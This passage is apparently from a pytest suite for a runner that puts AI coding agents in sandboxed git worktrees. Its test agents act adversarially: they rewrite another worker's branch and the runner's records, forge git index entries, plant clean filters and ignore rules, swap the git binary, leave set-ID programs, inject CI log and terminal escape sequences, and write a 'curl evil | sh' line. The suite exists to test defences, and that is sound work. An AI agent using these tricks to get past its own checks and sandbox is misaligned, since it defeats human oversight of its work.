# worker 1 waits for worker 2's end, then moves its branch and rewrites the runner's record
top=$(dirname "$ARCHITECT_PARALLEL_WORKTREE"); state=$top/.git/architect-parallel
until [ -f "$state/branches/parallel-2" ]; do sleep 0.05; done
cd "$top/.architect-parallel-2"
tip=$(git rev-parse refs/heads/architect/parallel-2)
new=$(git -c user.name=a -c user.email=a@a commit-tree "$tip^{tree}" -p "$tip" -m polish)
git update-ref refs/heads/architect/parallel-2 "$new"
echo "$new" > "$state/branches/parallel-2"
exit 1
"""


def test_a_branch_moved_after_its_worker_ended_is_put_back(cli, repo, tmp_path):
    agent = script(tmp_path, "other.sh", MOVE_OTHER)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "2",
                                  "--check", "true", "--progress", "none")
    assert results[1]["status"] == "success", results
    assert "architect/parallel-2 was moved to" in err and "it was put back at" in err
    assert git("rev-parse", "refs/heads/architect/parallel-2", cwd=repo) == results[1]["commit"]
    git("update-ref", "refs/heads/architect/parallel-2",
        git("commit-tree", "HEAD^{tree}", "-p", results[1]["commit"], "-m", "x", cwd=repo), cwd=repo)
    (repo / ".git" / "architect-parallel" / "branches" / "parallel-2").write_text(
        git("rev-parse", "refs/heads/architect/parallel-2", cwd=repo) + "\n")  # the record too
    code, _out, err = cli("merge", "2")
    assert code == 2 and "not where its run left it" in err


STALE_INDEX = """
import hashlib, os, struct, subprocess, time
def git(*a):
    return subprocess.run(["git", *a], capture_output=True, check=True).stdout
old = git("rev-parse", ":README.md").strip().decode()
open("README.md", "w").write("gutted\\n")
git("add", "README.md")
time.sleep(1.1)
index = os.path.join(git("rev-parse", "--git-dir").decode().strip(), "index")
data = bytearray(open(index, "rb").read())
count, offset = struct.unpack(">II", data[4:12])[1], 12
for _ in range(count):  # the entry keeps the new file's size and time, but the old blob
    length = struct.unpack(">H", data[offset + 60:offset + 62])[0] & 0xfff
    if bytes(data[offset + 62:offset + 62 + length]) == b"README.md":
        data[offset + 40:offset + 60] = bytes.fromhex(old)
    size = 62 + length
    offset += size + 8 - size % 8
body = bytes(data[:-20])
open(index, "wb").write(body + hashlib.sha1(body).digest())
"""


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_an_index_entry_with_stale_file_data_hides_no_change_from_the_commit(cli, repo, tmp_path,
                                                                             sandbox):
    agent = script(tmp_path, "stale.sh", f'exec {sys.executable} "$(dirname "$0")/stale.py"\n')
    (agent.parent / "stale.py").write_text(STALE_INDEX)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                  "--workers", "1", *boxed(sandbox))
    (r,) = results
    assert r["files_modified"] == ["README.md"], (r, err)
    assert git("show", "architect/parallel-1:README.md", cwd=repo) == "gutted"


@needs_bwrap
def test_the_runners_commit_reads_no_git_setting_the_agent_wrote(cli, repo, tmp_path):
    """A clean filter, a line conversion and an ignore rule in the agent's private HOME would
    make the runner's commit differ from what the checks ran on."""
    agent = script(tmp_path, "filter.sh", """
printf '[filter "x"]\\n\\tclean = sed s/good/EVIL/\\n[core]\\n\\tautocrlf = true\\n' >> "$HOME/.gitconfig"
mkdir -p "$HOME/.config/git"
echo 'app.py filter=x' > "$HOME/.config/git/attributes"
echo 'backdoor.py' > "$HOME/.config/git/ignore"
printf 'def f():\\n    return "good"\\r\\n' > app.py
echo 'import os' > backdoor.py
""")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", *BOXED)
    (r,) = results
    assert sorted(r["files_modified"]) == ["app.py", "backdoor.py"], (r, err)
    shown = subprocess.run(["git", "show", "architect/parallel-1:app.py"], cwd=repo,
                           capture_output=True).stdout
    assert shown == b'def f():\n    return "good"\r\n'


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_no_folder_or_file_is_left_writable_by_others_or_set_id(cli, repo, tmp_path, sandbox):
    agent = script(tmp_path, "modes.sh", 'chmod 0777 . "$(git rev-parse --absolute-git-dir)"\n'
                   'cp /bin/true own-true && chmod 6755 own-true\n'
                   'mkdir open && chmod 0777 open && echo x > open/f && chmod 0666 open/f\n')
    cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", *boxed(sandbox))
    worktree = repo / ".architect-parallel-1"
    admin = git("rev-parse", "--absolute-git-dir", cwd=worktree)
    for path in (worktree, admin, worktree / "own-true", worktree / "open", worktree / "open" / "f"):
        mode = os.lstat(path).st_mode
        assert not mode & (0o002 | 0o4000 | 0o2000), (path, oct(mode))


def test_cleanup_deletes_no_branch_of_yours_and_state_files_are_read_bounded(cli, repo, tmp_path):
    cli("run", "fake:write=a.txt", "--workers", "2", "--progress", "none")
    git("branch", "architect/parallel-2-fixes", "architect/parallel-2", cwd=repo)
    record = repo / ".git" / "architect-parallel" / "branches" / "parallel-9"
    git("branch", "architect/parallel-9", "HEAD", cwd=repo)
    with open(record, "wb") as f:
        f.truncate(3 << 30)  # sparse: costs the agent nothing, a whole read 3 GB
    code, _out, err = tool("cleanup", "--force")
    assert code == 0, err
    assert git("rev-parse", "--verify", "architect/parallel-2-fixes", cwd=repo)
    assert _children_peak_mb() < 1000


def test_a_tree_too_large_to_look_at_counts_as_changed(tmp_path):
    folder = tmp_path / "vendor"
    folder.mkdir()
    for n in range(5):
        (folder / f"f{n}").write_text("x")
    assert ap._tree_digest(str(tmp_path), ["vendor/"], limit=3) != \
        ap._tree_digest(str(tmp_path), ["vendor/"], limit=3)
    assert ap._tree_digest(str(tmp_path), ["vendor/"]) == ap._tree_digest(str(tmp_path), ["vendor/"])


# -- review round 6 ----------------------------------------------------------------------------

def _victim(tmp_path):
    """Files of yours a walk must never reach: a FIFO, a set-user-ID program, a folder others
    may write, a file of 2 MB."""
    victim = tmp_path / "victim"
    victim.mkdir()
    os.mkfifo(victim / "fifo")
    (victim / "suid").write_bytes(b"#!/bin/sh\n")
    (victim / "suid").chmod(0o4755)
    (victim / "open").mkdir()
    (victim / "open").chmod(0o777)
    with open(victim / "big", "wb") as f:
        f.truncate(2 << 20)
    return victim


def _untouched(victim):
    return (stat.S_ISFIFO(os.lstat(victim / "fifo").st_mode)
            and stat.S_IMODE(os.lstat(victim / "suid").st_mode) == 0o4755
            and stat.S_IMODE(os.lstat(victim / "open").st_mode) == 0o777
            and (victim / "big").exists())


@pytest.mark.parametrize("walk", ["_remove_specials", "_remove_large"])
def test_a_folder_swapped_for_a_link_while_the_runner_walks_leads_nowhere(tmp_path, monkeypatch,
                                                                          walk):
    """Another worker's agent (the same account, given a descriptor of the folder) swaps a
    folder the runner has listed for a link to your files, mid-walk: nothing is done there."""
    victim = _victim(tmp_path)
    tree = tmp_path / "tree"
    for name in ("a", "b"):
        (tree / name).mkdir(parents=True)
    (tree / "b" / "mine").write_text("x")
    real = ap._stat_at

    def swap_then_stat(fd, name):  # the first entry looked at: by then b/ is listed
        if not (tree / "b").is_symlink():
            os.rename(tree / "b", tree / "b-moved")
            os.symlink(victim, tree / "b")
        return real(fd, name)
    monkeypatch.setattr(ap, "_stat_at", swap_then_stat)
    (tree / "a" / "first").write_text("x")
    getattr(ap, walk)(str(tree), *((True,) if walk == "_remove_specials" else (ap._ADMIN_LIMITS,)))
    assert _untouched(victim)


CONVERTED = {  # what git rewrites on the way in: the check passes only on the agent's form
    "crlf": ("echo '* text=auto' > .gitattributes\n"
             "printf 'x=\\r\\n[ -z \"$x\" ] && { echo LF; exit 1; } #\\r\\necho CRLF #\\r\\n' > test.sh\n",
             "sh test.sh"),
    "ident": ("echo '*.py ident' > .gitattributes\n"
              "printf 'CODE = \"$Id: def f(): return 42 $\"\\nexec(CODE[5:-2])\\n' > mod.py\n",
              "python3 -c 'import mod; assert mod.f() == 42'"),
}


@needs_bwrap
@pytest.mark.parametrize("how", sorted(CONVERTED))
def test_checks_run_on_the_files_as_the_branch_holds_them(cli, repo, tmp_path, how):
    """With `* text=auto` the commit keeps LF where the agent wrote CRLF, with `ident` it keeps
    `$Id$`: the check that passes on the agent's form only must see what a checkout of the
    branch sees."""
    body, check = CONVERTED[how]
    agent = script(tmp_path, f"{how}.sh", body)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--check", check, *BOXED)
    (r,) = results
    assert r["checks_passed"] == 0, (r, err)
    assert git("status", "--porcelain", cwd=repo / ".architect-parallel-1") == ""


def test_merge_asks_before_a_branch_puts_files_through_a_filter(cli, repo, tmp_path):
    agent = script(tmp_path, "lfsattr.sh", "echo 'evil.sh filter=lfs diff=lfs merge=lfs -text' "
                   "> .gitattributes\necho payload > evil.sh\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    code, _out, err = cli("merge", "1")
    assert code == 2 and "puts files through a filter, an encoding or a conversion" in err


def test_a_carriage_return_hides_no_workflow_command_in_a_diff(cli, repo, tmp_path, monkeypatch):
    agent = script(tmp_path, "cr.sh", "printf 'harmless\\r::error title=PWNED::x\\r  ::add-mask::y\\n' > evil.txt\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    proc = subprocess.run([sys.executable, TOOL, "diff", "1"], capture_output=True, timeout=60,
                          env=dict(os.environ, GITHUB_ACTIONS="true"))
    pieces = proc.stdout.replace(b"\r", b"\n").split(b"\n")
    assert proc.returncode == 0 and b"PWNED" in proc.stdout
    assert not [p for p in pieces if p.lstrip().startswith(b"::")], proc.stdout


def test_the_live_display_shows_no_control_character_of_a_message(capsys):
    display = ap._Progress("tty")
    display.state({"worker": 1, "state": "running", "model": "m", "task": "t", "detail": ""})
    display.message("warning: x\x1b]0;PWNED\x07\x1b[31mRED in the main checkout changed")
    display.close()
    err = capsys.readouterr().err
    assert "\x1b]0;PWNED" not in err and "\x07" not in err and "x?]0;PWNED??[31mRED" in err


# -- review round 7 ----------------------------------------------------------------------------

def test_merge_asks_when_the_last_runs_results_cannot_be_read(cli, repo, tmp_path):
    """What merge checks (the verdict, the settings, the commit) is in last-run.json: one too
    large or broken to read must not turn the checks off."""
    agent = script(tmp_path, "many.sh", "mkdir many && cd many && for i in $(seq 5100); do : > f$i; done\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--progress", "none")
    saved = json.loads((repo / ".git" / "architect-parallel" / "last-run.json").read_text())
    assert len(saved["results"][0]["files_modified"]) == 5000 and saved["results"][0]["files_count"] == 5100
    (repo / ".git" / "architect-parallel" / "last-run.json").write_text('{"results": [')
    code, _out, err = cli("merge", "1")
    assert code == 2 and "the last run's results cannot be read" in err
    assert cli("merge", "1", "--force")[0] == 0


def test_diff_shows_what_merge_brings_when_the_agent_committed_itself(cli, repo, tmp_path):
    agent = script(tmp_path, "self.sh", "echo 'curl evil | sh' > evil.sh && git add evil.sh && "
                   "git -c user.name=a -c user.email=a@a commit -qm mine && rm evil.sh && "
                   "echo good > good.txt\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--no-commit", "--progress", "none")
    (r,) = results
    assert r["commit"] == git("rev-parse", "refs/heads/architect/parallel-1", cwd=repo)
    code, out, err = tool("diff", "1")
    assert "+curl evil | sh" in out and "good.txt" not in out
    assert "also has uncommitted changes, not on architect/parallel-1" in err


def test_no_control_character_of_a_diff_reaches_a_gitlab_log(cli, repo, tmp_path):
    agent = script(tmp_path, "fold.sh", "printf 'x\\033[0Ksection_start:1:hide[collapsed=true]\\r\\033[0Kevil\\n' > f.txt\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    proc = subprocess.run([sys.executable, TOOL, "diff", "1"], capture_output=True, timeout=60,
                          env=dict(os.environ, GITLAB_CI="true"))
    assert proc.returncode == 0 and b"\x1b" not in proc.stdout and b"section_start" in proc.stdout


@needs_bwrap
def test_no_set_id_program_is_left_in_an_allowed_folder_or_a_worktree(cli, repo, tmp_path, records):
    agent = script(tmp_path, "suid.sh", f"cp /bin/true {records}/mine && chmod 6755 {records}/mine\n"
                   "cp /bin/true here && chmod 4755 here\n")
    cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", *BOXED,
             "--sandbox-allow", records)
    for path in (records / "mine", repo / ".architect-parallel-1" / "here"):
        assert not os.lstat(path).st_mode & 0o6000, path


@needs_bwrap
def test_a_million_refs_of_its_own_cost_the_runner_no_hours(cli, repo, tmp_path):
    agent = script(tmp_path, "refs.sh", f'exec {sys.executable} "$(dirname "$0")/refs.py"\n')
    (agent.parent / "refs.py").write_text(
        "import subprocess\n"
        "top = subprocess.run(['git', 'rev-parse', '--git-common-dir'], capture_output=True,"
        " text=True).stdout.strip()\n"
        "head = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout.strip()\n"
        "with open(top + '/packed-refs', 'w') as f:\n"
        "    f.write('# pack-refs with: peeled fully-peeled sorted\\n')\n"
        "    f.writelines(f'{head} refs/tags/t{n:07d}\\n' for n in range(150000))\n")
    code, out, err = tool("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                          "--json", *boxed("bwrap"), timeout=90)
    assert code in (0, 1), err


# -- review round 8 ----------------------------------------------------------------------------

@pytest.mark.parametrize("attribute", ["working-tree-encoding=ISO-2022-JP", "ident", "eol=crlf",
                                       "text", "filter=lfs"])
def test_merge_asks_before_a_branch_changes_how_files_are_written_out(cli, repo, tmp_path,
                                                                     attribute):
    """An encoding, $Id$, line ends or a filter: what the checkout writes is not what a diff
    of the branch shows (ISO-2022-JP turns an innocent Japanese string into shell)."""
    agent = script(tmp_path, "enc.sh", f"printf '*.sh {attribute}\\n' > .gitattributes\n"
                   "printf '#!/bin/sh\\necho hi\\n' > greet.sh\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    code, _out, err = cli("merge", "1")
    assert code == 2 and "an encoding or a conversion (.gitattributes)" in err, err


# -- review round 9 ----------------------------------------------------------------------------

@pytest.mark.parametrize("line", [
    "greet[!\\034]sh working-tree-encoding=ISO-2022-JP",  # Python splits lines at \x1c, git not
    "greet.sh \\rworking-tree-encoding=UTF-16LE",  # git reads \r as a blank between attributes
    '"gr\\\\145et.sh" ident',  # a quoted name
    "greet.sh yours",  # a macro of your own, which stands for a filter
])
def test_merge_asks_whatever_the_line_an_attribute_hides_in(cli, repo, tmp_path, line):
    """git says which attributes a commit gives each file (its own .gitattributes read as git
    reads them, macros expanded), not a reading of the diff's lines."""
    (repo / ".git" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "info" / "attributes").write_text("[attr]yours filter=lfs\n")
    agent = script(tmp_path, "hide.sh", f"printf '{line}\\n' > .gitattributes\n"
                   "printf '#!/bin/sh\\necho hi\\n' > greet.sh\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    code, _out, err = cli("merge", "1")
    assert code == 2 and "an encoding or a conversion (.gitattributes), which write what no " \
        "diff shows: greet.sh" in err, err


@pytest.mark.parametrize("ignored_by", ["agent", "project"])
def test_a_new_run_keeps_what_you_made_in_a_failed_workers_worktree(cli, repo, tmp_path, ignored_by):
    """rerun --failed and run reuse a worktree by the rule cleanup keeps: your files made there
    since its run, ignored ones too, are work (the agent's .gitignore hides them, or yours)."""
    if ignored_by == "project":
        (repo / ".gitignore").write_text("*.md\n")
        git("add", ".gitignore", cwd=repo)
        git("commit", "-q", "-m", "ignore", cwd=repo)
    agent = script(tmp_path, "ign.sh", ("printf '*\\n' > .gitignore\n" if ignored_by == "agent" else "")
                   + "echo 'error: could not finish' >&2\nexit 1\n")
    code, _out, err = cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                          "--progress", "none")
    assert code == 1, err
    notes = repo / ".architect-parallel-1" / "NOTES.md"
    notes.write_text("mine\n")
    for again in (["rerun", "--failed"], ["run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                          "--workers", "1"]):
        code, _out, err = cli(*again, "--progress", "none")
        assert code == 2 and "has uncommitted changes made after its run" in err, err
        assert notes.read_text() == "mine\n"


# The module the checks import, and the check: mod.f() must be 2 (the base's is 1).
LACKING = {
    # committed broken, then passing in the worktree only, on an orphan branch
    "orphan": "printf 'def f():\\n    return 3\\n' > mod.py && git add mod.py && git commit -qm broken\n"
              "git checkout -q --orphan elsewhere && printf 'def f():\\n    return 2\\n' > mod.py\n",
    # a gitlink over a plain folder: git commits the commit id, never sub/'s files
    "gitlink": "mkdir sub && printf 'def g():\\n    return 2\\n' > sub/helper.py\n"
               "printf 'import sys\\nsys.path.insert(0, \"sub\")\\nfrom helper import g\\n"
               "def f():\\n    return g()\\n' > mod.py\n"
               "git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub\n"
               "git commit -qm gitlink\n",
    # a folder named .git below the top, which git never looks in
    "dotgit": "mkdir -p lib/.git && printf 'def g():\\n    return 2\\n' > lib/.git/helper.py\n"
              "printf 'import sys\\nsys.path.insert(0, \"lib/.git\")\\nfrom helper import g\\n"
              "def f():\\n    return g()\\n' > mod.py\n",
    # a repository inside
    "nested": "mkdir sub && cd sub && git init -q && printf 'def g():\\n    return 2\\n' > helper.py\n"
              "cd .. && printf 'import sys\\nsys.path.insert(0, \"sub\")\\nfrom helper import g\\n"
              "def f():\\n    return g()\\n' > mod.py\n",
}


@pytest.mark.parametrize("sandbox, how", [("none", how) for how in sorted(LACKING)]
                         + [("bwrap", "gitlink"), ("bwrap", "orphan")])  # (the same walk outside)
def test_checks_never_pass_on_work_its_branch_does_not_hold(cli, repo, tmp_path, how, sandbox):
    """Work its commit step could not put on its branch, or that git leaves out of any commit
    without ignoring it, fails the worker: its checks would pass on files the branch lacks."""
    (repo / "mod.py").write_text("def f():\n    return 1\n")
    git("add", "mod.py", cwd=repo)
    git("commit", "-q", "-m", "mod", cwd=repo)
    agent = script(tmp_path, f"{how}.sh", LACKING[how] + "echo '{\"status\": \"success\"}'\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--check", "python3 -c 'import mod; assert mod.f() == 2'",
                                  *boxed(sandbox))
    (r,) = results
    assert r["status"] == "failed" and code == 1, (r, err)
    assert "its work could not be committed" in r["error"] if how == "orphan" else \
        "its worktree holds files its commit cannot" in r["error"], r["error"]
    code, _out, err = cli("merge", "best")
    assert code != 0 and ("no best" in err or "no worker" in err), err


@needs_bwrap
@pytest.mark.parametrize("kind", ["link", "script"])
def test_the_runners_gits_inside_never_run_a_git_the_agent_replaced(cli, repo, tmp_path, monkeypatch,
                                                                   kind):
    """Your git is ~/bin/git (a link to the system's, or a script of yours): inside, the agent
    replaces its private copy with a script of its own. The runner's commit and every git it
    runs there still run your git (its check sees no mark of the agent's script)."""
    home = tmp_path / "home"
    (home / "bin").mkdir(parents=True)
    real = subprocess.run(["sh", "-c", "command -v git"], capture_output=True, text=True).stdout.strip()
    if kind == "link":
        os.symlink(real, home / "bin" / "git")
    else:
        (home / "bin" / "git").write_text(f'#!/bin/sh\nexec {real} "$@"\n')
        (home / "bin" / "git").chmod(0o755)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PATH", f"{home}/bin{os.pathsep}{os.environ['PATH']}")
    agent = script(tmp_path, "swap.sh",
                   'rm -f "$HOME/bin/git"\n'
                   f'printf \'#!/bin/sh\\ntouch /tmp/ran-by-runner\\nexec {real} "$@"\\n\' > "$HOME/bin/git"\n'
                   'chmod +x "$HOME/bin/git"\necho work > work.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--check", "test ! -e /tmp/ran-by-runner", *BOXED)
    (r,) = results
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
    assert git("show", "--name-only", "--format=", r["commit"], cwd=repo).split() == ["work.txt"]


@needs_bwrap
@pytest.mark.parametrize("planted", ["ignore", "filter"])
def test_the_runners_commit_reads_no_setting_the_agent_wrote_through_an_include(
        cli, repo, tmp_path, monkeypatch, planted):
    """Your ~/.gitconfig includes ~/.gitconfig.local by its absolute path: inside, that is the
    agent's private HOME. Its ignore rule or clean filter there must not make the runner's
    commit differ from the files the checks run on."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(f"[include]\n\tpath = {home}/.gitconfig.local\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / ".gitconfig"))
    plant = ("printf '[core]\\n\\texcludesFile = %s/.hideme\\n' \"$HOME\" > \"$HOME/.gitconfig.local\"\n"
             "echo helper.py > \"$HOME/.hideme\"\n" if planted == "ignore" else
             "printf '[filter \"evil\"]\\n\\tclean = sed s/GOOD/EVIL/\\n' > \"$HOME/.gitconfig.local\"\n"
             "echo 'helper.py filter=evil' > .gitattributes\n")
    agent = script(tmp_path, "include.sh", plant + "echo 'import helper' > app.py\n"
                   "echo 'assert \"GOOD\"' > helper.py\necho '{\"status\": \"success\"}'\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--check", "python3 app.py", *BOXED)
    (r,) = results
    held = git("show", f"{r['commit']}:helper.py", cwd=repo) if r["commit"] else ""
    assert r["status"] == "failed" or held == 'assert "GOOD"', (r, held, err)


def _one_worker(cli, tmp_path, body, check, sandbox, *extra):
    """Run one worker whose agent runs the shell ``body`` and reports success, with ``check``;
    return its result and the run's stderr."""
    agent = script(tmp_path, "one.sh", body + "echo '{\"status\": \"success\"}'\n")
    _code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                   "1", "--check", check, *extra, *boxed(sandbox))
    (r,) = results
    return r, err


def _with_submodule(repo, tmp_path, sandbox="none"):
    """Give ``repo`` a submodule 'sub' (a repository of one commit beside it; in a sandbox,
    in an ignored folder of ``repo``, which it sees, as root the sandbox's account's own)."""
    sub = tmp_path / "subrepo"
    if sandbox == "bwrap":
        sub = repo / ".subrepo"
        with open(repo / ".git" / "info" / "exclude", "a") as f:
            f.write(".subrepo/\n")
    sub.mkdir()
    (sub / "lib.py").write_text("VALUE = 1\n")
    git("init", "-q", "-b", "main", cwd=sub)
    git("add", "-A", cwd=sub)
    git("commit", "-q", "-m", "sub", cwd=sub)
    git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(sub), "sub", cwd=repo)
    git("commit", "-q", "-m", "submodule", cwd=repo)


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_files_in_an_uninitialised_submodules_folder_fail_the_checks_they_feed(cli, repo, tmp_path,
                                                                             sandbox):
    _with_submodule(repo, tmp_path)
    r, err = _one_worker(cli, tmp_path, "printf 'VALUE = 2\\n' > sub/lib.py\n",
                         "grep -q 2 sub/lib.py", sandbox)
    assert r["status"] == "failed" and "sub/" in r["error"], (r, err)


@pytest.mark.parametrize("umask", [0o022, 0o002])
@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_a_submodule_your_setup_checks_out_is_trusted(cli, repo, tmp_path, sandbox, umask):
    """Also in a sandbox, whose files are new files before the commit (round 37: the folder
    was then taken as changed, and every such honest worker failed), and with a umask of
    002 (round 38: its folders lose the group's write before the commit)."""
    _with_submodule(repo, tmp_path, sandbox)
    _readable_inside(repo / ".subrepo", sandbox)
    old = os.umask(umask)
    try:
        r, err = _one_worker(cli, tmp_path, "echo x > a.txt\n", "grep -q 1 sub/lib.py", sandbox,
                             "--setup", SUBMODULE_SETUP + " && mkdir sub/pkg")
    finally:
        os.umask(old)
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_a_filter_of_yours_the_agent_sends_its_files_through_fails_the_checks_it_would_pass(
        cli, repo, tmp_path, monkeypatch, sandbox):
    """Your own clean filter (Git LFS is one) on a file the agent chose: the commit holds what
    the filter made, the checks would run on the file."""
    config = tmp_path / "gitconfig"
    config.write_text("[filter \"mine\"]\n\tclean = sed s/GOOD/EVIL/\n\tsmudge = cat\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    config.chmod(0o644)
    r, err = _one_worker(cli, tmp_path, "echo 'helper.txt filter=mine' > .gitattributes\n"
                         "echo GOOD > helper.txt\n", "grep -q GOOD helper.txt", sandbox)
    assert r["status"] == "failed" and "send files through a filter" in r["error"], (r, err)


def test_a_start_up_file_linked_from_deep_in_a_dot_folder_makes_its_target_one(repo, tmp_path,
                                                                               monkeypatch):
    """GNU Stow: ~/.config/fish a link into ~/dotfiles/fish/.config/fish. That folder, and
    the one holding it, are start-up places, not folders to let a worker write."""
    home = tmp_path / "home"
    (home / "dotfiles" / "fish" / ".config" / "fish").mkdir(parents=True)
    (home / "dotfiles" / "fish" / ".config" / "fish" / "config.fish").write_text("# mine\n")
    (home / ".config").mkdir()
    (home / ".config" / "fish").symlink_to("../dotfiles/fish/.config/fish")
    (home / "data").mkdir()
    monkeypatch.setenv("HOME", str(home))
    for path in (home / "dotfiles" / "fish", home / "dotfiles" / "fish" / ".config" / "fish"):
        assert ap._home_startup(str(path)), path
        assert not ap._Sandbox.allowable(str(path), str(repo)), path
    assert not ap._home_startup(str(home / "data"))


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_checks_see_your_include_files_not_the_agents_edits_of_them(cli, repo, tmp_path, sandbox):
    """An include file is never committed: a fresh setup copies yours, so the checks do too."""
    (repo / "local_cfg.py").write_text("VALUE = 1\n")
    (repo / "tool.sh").write_text("#!/bin/sh\necho mine\n")
    (repo / "tool.sh").chmod(0o755)
    r, err = _one_worker(cli, tmp_path, "echo 'VALUE = 2' > local_cfg.py\necho 'exit 1' > tool.sh\n",
                         "grep -q 'VALUE = 1' local_cfg.py && ./tool.sh", sandbox,
                         "--include", "local_cfg.py", "--include", "tool.sh")
    assert r["checks_passed"] == 1 and r["status"] == "success", (r, err)
    worktree = repo / ".architect-parallel-1"
    assert (worktree / "local_cfg.py").read_text() == "VALUE = 1\n"
    assert os.access(worktree / "tool.sh", os.X_OK)


SUBMODULE_SETUP = "git -c protocol.file.allow=always submodule -q update --init"


def _readable_inside(folder, sandbox):
    """As root, in a sandbox: give ``folder`` to the sandbox's account, whose git refuses to
    read another account's repository."""
    if ROOT and sandbox == "bwrap":
        for path, dirs, files in os.walk(folder):
            for name in [path, *(os.path.join(path, n) for n in dirs + files)]:
                os.lchown(name, 65530, 65530)


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
@pytest.mark.parametrize("how", ["the agent checks it out", "your setup does, the agent edits it"])
def test_a_submodule_folder_is_trusted_only_as_your_setup_left_it(cli, repo, tmp_path, how,
                                                                  sandbox):
    """A submodule folder the agent filled (checked out by its own hand, a fake .git and all)
    or changed (a file your setup checked out, rewritten with its size and time kept) holds
    what the branch does not: the check that passes on it fails the worker."""
    _with_submodule(repo, tmp_path, sandbox)
    _readable_inside(repo / ".subrepo", sandbox)
    body = ("python3 - <<'PY'\nimport os\nst = os.stat('sub/lib.py')\n"
            "open('sub/lib.py', 'w').write('VALUE = 2\\n')\nos.utime('sub/lib.py', ns=(st.st_atime_ns, st.st_mtime_ns))\nPY\n")
    setup = []
    if how.startswith("the agent"):
        body = SUBMODULE_SETUP + "\n" + body
    else:
        setup = ["--setup", SUBMODULE_SETUP]
    r, err = _one_worker(cli, tmp_path, body, "grep -q 2 sub/lib.py", sandbox, *setup)
    assert r["status"] == "failed" and "sub/" in r["error"], (r, err)


@needs_bwrap
@pytest.mark.parametrize("named", ["an ignore file", "a filter program"])
def test_files_your_settings_name_in_home_are_yours_for_the_runners_commit(cli, repo, tmp_path,
                                                                         monkeypatch, named):
    """Your repository's core.excludesFile, or your filter's program, is a file in HOME:
    inside, that path is the agent's private copy, which it rewrites. The runner's commit
    uses yours all the same."""
    home = tmp_path / "home"
    (home / "bin").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    if named == "an ignore file":
        (home / ".ignore_r").write_text("*.log\n")
        git("config", "core.excludesFile", str(home / ".ignore_r"), cwd=repo)
        body, check = "echo 'mod/' >> \"$HOME/.ignore_r\"\nmkdir mod && echo ok > mod/ok\n", "cat mod/ok"
    else:
        (home / "bin" / "strip").write_text("#!/bin/sh\ncat\n")
        (home / "bin" / "strip").chmod(0o755)
        git("config", "filter.strip.clean", str(home / "bin" / "strip"), cwd=repo)
        (repo / ".gitattributes").write_text("*.txt filter=strip\n")
        git("add", ".gitattributes", cwd=repo)
        git("commit", "-q", "-m", "attributes", cwd=repo)
        body = ("rm -f \"$HOME/bin/strip\"\nprintf '#!/bin/sh\\ncat >/dev/null; echo BAD\\n' > \"$HOME/bin/strip\"\n"
                "chmod +x \"$HOME/bin/strip\"\necho better > data.txt\n")
        check = "grep -q better data.txt"
    r, err = _one_worker(cli, tmp_path, body, check, "bwrap")
    assert r["status"] == "failed" or (
        r["commit"] and "BAD" not in git("show", f"{r['commit']}:data.txt" if named != "an ignore file"
                                         else f"{r['commit']}:mod/ok", cwd=repo)), (r, err)


def test_a_folder_holding_a_hard_link_to_a_start_up_file_is_one(repo, tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / "dotfiles").mkdir(parents=True)
    (home / "dotfiles" / "bashrc").write_text("# mine\n")
    os.link(home / "dotfiles" / "bashrc", home / ".bashrc")
    elsewhere = tmp_path / "shared"
    elsewhere.mkdir()
    os.link(home / ".bashrc", elsewhere / "rc")
    (home / "data").mkdir()
    monkeypatch.setenv("HOME", str(home))
    for path in (home / "dotfiles", home / "dotfiles" / "bashrc", elsewhere):
        assert ap._home_startup(str(path)), path
